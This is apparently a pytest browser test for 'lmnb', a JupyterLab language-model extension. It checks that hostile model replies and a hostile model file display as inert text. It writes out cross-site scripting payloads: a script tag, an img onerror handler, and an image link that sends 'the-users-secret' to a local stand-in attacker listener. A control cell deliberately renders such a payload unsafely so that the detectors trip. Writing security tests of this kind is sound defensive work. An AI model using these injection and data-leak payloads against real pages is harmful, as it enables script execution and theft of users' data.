"""Untrusted text in a real JupyterLab: hostile replies and a hostile model file run nothing, load nothing.

The replies come from the real model: a GBNF grammar (``%%lm --grammar``) makes SmolLM2 write the
hostile text token by token, so each display path streams it as a user would see it (tags arrive
split across chunks). A local listener stands in for an attacker's server: the page must send it
nothing. A control cell at the end renders the same kind of payload the unsafe way (IPython's
Markdown) and must trip both detectors, so the test can tell.
"""

from __future__ import annotations

import http.server
import threading
from pathlib import Path

import pytest

from ..hostile import NAME_PAYLOAD, REPLY_END

pytestmark = pytest.mark.browser

# Elements that would mean a payload became markup.
# (<style> is checked by its content: pandas writes one for its tables.)
FORBIDDEN = "script, img, svg, iframe, form, details, object, video, link, image, a[href^='javascript'], a[href^='data']"
# lmnb's own folded parts of the chat pane (their text is set as text): every other <details> is forbidden
OWN_DETAILS = ("details.lmnb-thinking, details.lmnb-tool-call, details.lmnb-tool-result, "
               "details.lmnb-chat-system-box")


class _Listener(http.server.ThreadingHTTPServer):
    """An attacker's server on 127.0.0.1: records every request it gets."""

    daemon_threads = True

    def __init__(self) -> None:
        self.paths: list[str] = []

        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802
                outer.paths.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/svg+xml")
                self.end_headers()
                self.wfile.write(b'<svg xmlns="http://www.w3.org/2000/svg"/>')

            do_POST = do_GET  # noqa: N815

            def log_message(self, *args: object) -> None:
                pass

        super().__init__(("127.0.0.1", 0), Handler)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}/leak"


@pytest.fixture
def listener():
    srv = _Listener()
    thread = threading.Thread(target=srv.serve_forever, kwargs={"poll_interval": 0.1}, daemon=True)
    thread.start()
    try:
        yield srv
    finally:
        srv.shutdown()
        srv.server_close()


def _cells(leak: str, gguf: Path) -> list[str]:
    return [
        # 0: the grammar makes the real model write the hostile reply
        "%load_ext lmnb\nimport json, lmnb, pandas as pd\nfrom tests.hostile import hostile_reply, ORDINARY\n"
        f"reply = hostile_reply({leak!r})\ng = 'root ::= ' + json.dumps(reply)\n"
        "lmnb.load('smollm2', n_ctx=4096)\nprint(len(lmnb.tokens(reply)), 'tokens')",
        # 1: %%lm, streamed, with --show-probs (the token view of the same reply)
        "%%lm --grammar g -t 0 -n 2000 --show-probs\nWrite anything.",
        # 2: %%lm chat
        "%%lm chat --grammar g -t 0 -n 2000\nWrite anything.",
        # 3: %%lm map over a DataFrame, then its results as a table
        "df = pd.DataFrame({'topic': ['a']})",
        "%%lm map --over df --grammar g -t 0 -n 2000 -o out\nWrite about {topic}.",
        "pd.set_option('display.max_colwidth', None)\npd.DataFrame({'reply': out})",
        # 6: compare, and the token view
        "lmnb.compare('Write anything.', [{'grammar': g, 'temperature': 0}], max_tokens=2000)",
        "lmnb.tokens(reply)",
        # 8: a model file whose name and general.name hold payloads
        f"hostile = {str(gguf)!r}\nlmnb.load(hostile, n_ctx=1024)",
        "%lm status",
        "%lm models",
        "%%lm -n 4 -t 0\nHi",
        "print(lmnb.info(hostile).metadata['general.name'])",
        "from lmnb.widgets import Models\nModels()",
        # 14: ordinary Markdown still renders as formatting
        "lmnb.load('smollm2', n_ctx=4096)\ng2 = 'root ::= ' + json.dumps(ORDINARY)",
        "%%lm --grammar g2 -t 0 -n 1000\nShow me some Markdown.",
        # 16: the chat pane shows the conversation, with the hostile reply of cell 2, and the same
        # text as a model's thinking, a tool call's arguments and a tool's result (all folded)
        "from lmnb.widgets import Chat\nlmnb.conversation().append_turn({'role': 'user', 'content': 'Use a tool.'}, "
        "{'role': 'assistant', 'content': '', 'reasoning': reply, 'tool_calls': [{'id': 'a', 'type': 'function', "
        "'function': {'name': 't', 'arguments': reply}}]}, {'role': 'tool', 'tool_call_id': 'a', 'name': 't', "
        "'content': reply})\nChat()",
        # 17: the control: the unsafe way trips both detectors
        "from IPython.display import Markdown\n"
        f"Markdown('<img src=x onerror=\"window.__control = 1\">\\n\\n![c]({leak}/control)')",
    ]


def _forbidden(nb, i: int) -> list[str]:
    outputs = nb.output(i).locator(".jp-OutputArea-output")
    found = outputs.locator(FORBIDDEN)
    styles = outputs.locator("style").filter(has_text="leak")
    return [f.nth(k).evaluate("e => e.outerHTML.slice(0, 300)") for f in (found, styles) for k in range(f.count())]


def test_hostile_replies_and_model_files_run_and_load_nothing(open_notebook, listener, hostile_gguf):
    nb = open_notebook(_cells(listener.url, hostile_gguf))
    nb.run_cell(0, timeout=120)
    assert int(nb.stream_text(0).split()[0]) > 100

    for i in (1, 2, 3, 4, 5, 6, 7):
        nb.run_cell(i, timeout=240)
    # every path got the whole reply (so the test is not vacuous) and shows its tags as text
    assert "1 items" in nb.output_text(4)  # %%lm map -o prints its stats; cell 5 shows the results
    for i in (1, 2, 5, 6, 7):
        nb.wait_for(lambda i=i: REPLY_END in nb.output_text(i), timeout=30, message=f"cell {i} lacks the reply")
    shown = nb.output_text(1)
    assert "<script>window.__pwned = 1</script>" in shown
    assert 'onerror="window.__pwned = 2"' in shown
    # images are links the user may open; formatting (the link) survived
    image_link = nb.output(1).locator("a", has_text="chart").first
    assert image_link.get_attribute("href") == f"{listener.url}/image?q=the-users-secret"
    assert nb.output(1).locator(".lmnb-prob").count() > 100  # the --show-probs view is there
    nb.screenshot("hostile-reply", nb.output(1))

    # the hostile model file, in every place that shows its name or metadata
    for i in range(8, 14):
        nb.run_cell(i, timeout=120)
    for i in (9, 10, 11):
        nb.wait_for(lambda i=i: NAME_PAYLOAD in nb.output_text(i), timeout=30, message=f"cell {i} lacks the name")
    pane = nb.output(13).locator("option").filter(has_text=NAME_PAYLOAD)
    nb.wait_for(lambda: pane.count() > 0, timeout=30, message="the Models pane does not list the hostile model")
    status = nb.page.locator("#lmnb-status")  # the lab extension's status bar item
    nb.wait_for(lambda: NAME_PAYLOAD in status.inner_text(), timeout=30, message="the status bar lacks the name")
    assert "bold-meta" in nb.output_text(12)

    for i in range(0, 14):
        assert _forbidden(nb, i) == [], i
    assert nb.page.locator(f"#lmnb-status :is({FORBIDDEN})").count() == 0
    nb.page.wait_for_timeout(500)  # let any image or script the page was tricked into start (none may)
    assert nb.page.evaluate("window.__pwned") is None
    assert listener.paths == []
    assert not nb.log.errors(), nb.log.errors()

    # ordinary Markdown keeps its formatting
    nb.run_cell(14, timeout=120)
    nb.run_cell(15, timeout=240)
    out = nb.output(15)
    nb.wait_for(lambda: out.locator("table td").count() == 4, timeout=30, message="no table")
    assert out.locator("h1").inner_text().strip() == "A heading"
    assert out.locator("li").count() == 2 and out.locator("em").count() == 1 and out.locator("strong").count() == 1
    assert out.locator("a").first.get_attribute("href") == "https://example.com/docs"
    code = out.locator("pre code")
    assert "return a + b" in code.inner_text()
    assert code.locator("span[style*='--jp-mirror-editor-keyword-color']").count() >= 2  # def, return
    nb.screenshot("ordinary-markdown", out)

    # the chat pane (anywidget, rendered in the browser) shows the same reply inert
    nb.run_cell(16, timeout=60)
    chat = nb.output(16)
    nb.wait_for(lambda: REPLY_END in chat.inner_text(), timeout=30, message="the chat pane lacks the reply")
    assert 'onerror="window.__pwned = 2"' in chat.inner_text()
    assert chat.locator("a", has_text="chart").first.get_attribute("href") == f"{listener.url}/image?q=the-users-secret"
    messages = chat.locator(".lmnb-chat-messages")
    folded = messages.locator(OWN_DETAILS)
    assert folded.count() == 3 and all(REPLY_END in folded.nth(k).text_content() for k in range(3))
    # nothing the reply could have made: lmnb's three folded parts are the only <details>
    assert messages.locator(FORBIDDEN).count() == folded.count() and messages.locator("style").count() == 0
    assert folded.locator(FORBIDDEN).count() == 0
    nb.page.wait_for_timeout(500)
    assert nb.page.evaluate("window.__pwned") is None and listener.paths == []

    # the control: rendered the unsafe way, the same kind of payload runs and leaks
    nb.run_cell(17, timeout=60)
    nb.wait_for("window.__control === 1", timeout=30)
    nb.wait_for(lambda: any("/control" in p for p in listener.paths), timeout=30, message="the control leaked nothing")
    assert nb.page.evaluate("window.__pwned") is None
